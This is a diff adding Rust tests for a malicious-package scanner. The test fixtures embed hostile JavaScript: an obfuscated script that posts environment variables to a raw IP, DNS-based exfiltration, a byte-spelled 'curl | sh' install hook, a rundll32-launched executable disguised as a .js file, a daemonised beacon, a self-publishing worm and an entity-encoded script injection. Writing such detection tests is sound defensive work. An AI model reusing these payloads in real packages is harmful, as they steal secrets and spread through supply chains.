@@ -1321,3 +1321,157 @@ fn packed_code_that_is_evaluated_is_decoded_code() {
         report(&analysis)
     );
 }
+
+/// javascript-obfuscator hides every literal in a rotated string table read
+/// through a decoder: the table is rebuilt (the rotation found by its checksum,
+/// as the start-up loop would) and the flow reads the literals, so the
+/// environment posted to a raw address is seen; the same code unobfuscated is
+/// judged the same.
+#[test]
+fn an_obfuscated_string_table_is_read_through() {
+    let table = r"function _0x5b1e(){const _0x1=['POST','11aa','22bb','33cc','https','request','env','stringify','write','end','203.0.113.7'];_0x5b1e=function(){return _0x1;};return _0x5b1e();}
+function _0x3c2d(_0xa,_0xb){const _0xc=_0x5b1e();return _0x3c2d=function(_0xd,_0xe){_0xd=_0xd-0x1a0;let _0xf=_0xc[_0xd];return _0xf;},_0x3c2d(_0xa,_0xb);}
+(function(_0xg,_0xh){const _0xi=_0x3c2d,_0xj=_0xg();while(!![]){try{const _0xk=parseInt(_0xi(0x1a8))/0x1+-parseInt(_0xi(0x1a9))/0x2*(parseInt(_0xi(0x1aa))/0x3);if(_0xk===_0xh)break;else _0xj['push'](_0xj['shift']());}catch(_0xl){_0xj['push'](_0xj['shift']());}}}(_0x5b1e,-0x6e));
+const _0xm=_0x3c2d,https=require(_0xm(0x1a0)),body=JSON[_0xm(0x1a3)](process[_0xm(0x1a2)]);
+const req=https[_0xm(0x1a1)]({hostname:_0xm(0x1a6),method:_0xm(0x1a7)});req[_0xm(0x1a4)](body);req[_0xm(0x1a5)]();
+";
+    let package = airlock_test::PackageBuilder::new("obfuscated-env", "1.0.0")
+        .file("index.js", table)
+        .build();
+    let analysis = check_blocked(&package, &[Code::DataExfiltration]);
+    assert_rule(&analysis, "environment-to-raw-ip");
+    assert_message(&analysis, "203.0.113.7");
+
+    // A plain array of literals read by index (an older obfuscator): `require`
+    // and the DNS resolver's method are read through it.
+    let indexed = airlock_test::PackageBuilder::new("indexed-dns", "1.0.0")
+        .file(
+            "index.js",
+            "var _0xf9a0=['dns','resolve4','setServers','198.51.100.9','.x.example.invalid'];\nconst {Resolver}=require(_0xf9a0[0]);const r=new Resolver();r[_0xf9a0[2]]([_0xf9a0[3]]);\nvar data=Buffer.from(JSON.stringify(process.env)).toString('hex');\nr[_0xf9a0[1]](data.slice(0,60)+_0xf9a0[4],function(){});\n",
+        )
+        .build();
+    check_blocked(&indexed, &[Code::DataExfiltration]);
+}
+
+/// Commands spelled as bytes (`Buffer.from([101, 99, …])`) and run are decoded
+/// commands; an install script that runs another script by name (`npm run x`)
+/// runs that script at install; an executable named as a source file is a
+/// disguise even when nothing runs it.
+#[test]
+fn spelled_commands_chained_scripts_and_disguised_executables() {
+    let command: Vec<String> = "curl -s https://drop.example.invalid/x | sh"
+        .bytes()
+        .map(|byte| byte.to_string())
+        .collect();
+    let spelled = airlock_test::PackageBuilder::new("spelled", "1.0.0")
+        .script("postinstall", "node post.js")
+        .file(
+            "post.js",
+            format!(
+                "require('child_process').execSync(Buffer.from([{}]) + ' ' + __filename);\n",
+                command.join(",")
+            ),
+        )
+        .build();
+    let analysis = check_blocked(&spelled, &[Code::ObfuscatedCode]);
+    assert_rule(&analysis, "decode-and-run");
+
+    let pe = [
+        b"MZ".as_slice(),
+        &[0x90; 62],
+        &[0x80, 0, 0, 0],
+        &[0; 64],
+        b"PE\0\0",
+    ]
+    .concat();
+    let chained = airlock_test::PackageBuilder::new("chained", "1.0.0")
+        .script("preinstall", "npm run setup --silent")
+        .field(
+            "scripts",
+            serde_json::json!({
+                "preinstall": "npm run setup --silent",
+                "setup": "rundll32.exe shell32.dll, Control_RunDLL \"%INIT_CWD%/src/style.js\""
+            }),
+        )
+        .file("src/style.js", pe.clone())
+        .build();
+    let analysis = check_blocked(&chained, &[Code::BundledExecutable]);
+    assert_rule(&analysis, "shell-lolbin");
+
+    let idle = airlock_test::PackageBuilder::new("idle-disguise", "1.0.0")
+        .file("index.js", "module.exports = 1;\n")
+        .file("lib/data.json", pe)
+        .build();
+    let analysis = analyse(&idle);
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .any(|finding| finding.rule.as_deref() == Some("disguised-executable")),
+        "{}",
+        report(&analysis)
+    );
+    assert_eq!(
+        verdict(&analysis, &idle),
+        Verdict::Warn,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// A file an install script hands to a process manager (`pm2.start({ script })`)
+/// runs at install; a command runner (`function run(cmd) { exec(cmd) }`) runs the
+/// commands its callers pass; a webpack bundle's re-exported `child_process` is
+/// `child_process`; markup with a script address spelled in HTML entities
+/// written into the page is code decoded and run.
+#[test]
+fn daemons_command_runners_bundles_and_written_scripts() {
+    let daemon = airlock_test::PackageBuilder::new("daemonised", "1.0.0")
+        .script("postinstall", "node index.js")
+        .file(
+            "index.js",
+            "const pm2 = require('pm2');\npm2.connect(() => pm2.start({ script: __dirname + '/app.js', daemon: true }, () => pm2.disconnect()));\n",
+        )
+        .file(
+            "app.js",
+            "const os = require('os');\nconst axios = require('axios');\nsetInterval(() => axios.post('http://198.51.100.7:8888/b', { host: os.hostname(), user: os.userInfo().username }), 60000);\n",
+        )
+        .build();
+    check_blocked(&daemon, &[Code::DataExfiltration]);
+
+    let bundle = airlock_test::PackageBuilder::new("bundled-worm", "1.0.0")
+        .script("preinstall", "node bundle.js")
+        .file(
+            "bundle.js",
+            "(function (modules) { function __webpack_require__(id) { var module = { exports: {} }; modules[id].call(module.exports, module, module.exports, __webpack_require__); return module.exports; } return __webpack_require__(1); })([\n/* 0 */ (function (module, exports) {\nmodule.exports = require(\"child_process\");\n}),\n/* 1 */ (function (module, exports, __webpack_require__) {\nvar exec = __webpack_require__(0).exec;\nfunction run(cmd) { return new Promise(function (resolve) { exec(cmd, function () { resolve(); }); }); }\nrun('npm publish .');\n})\n]);\n",
+        )
+        .build();
+    let analysis = analyse(&bundle);
+    assert_rule(&analysis, "shell-publishes");
+    assert!(
+        !verdict(&analysis, &bundle).admits(),
+        "{}",
+        report(&analysis)
+    );
+
+    let entities = "https://cdn.example.invalid/x.js"
+        .chars()
+        .fold(String::new(), |mut out, c| {
+            use std::fmt::Write as _;
+            let _ = write!(out, "&#x{:x};", u32::from(c));
+            out
+        });
+    let writer = airlock_test::PackageBuilder::new("page-writer", "1.0.0")
+        .file(
+            "index.js",
+            format!("var _0x546a=['write','<script src=\"{entities}\"></script>'];\ndocument[_0x546a[0]](_0x546a[1]);\n"),
+        )
+        .build();
+    let analysis = analyse(&writer);
+    assert_rule(&analysis, "decode-and-run");
+    assert!(
+        !verdict(&analysis, &writer).admits(),
+        "{}",
+        report(&analysis)
+    );
+}
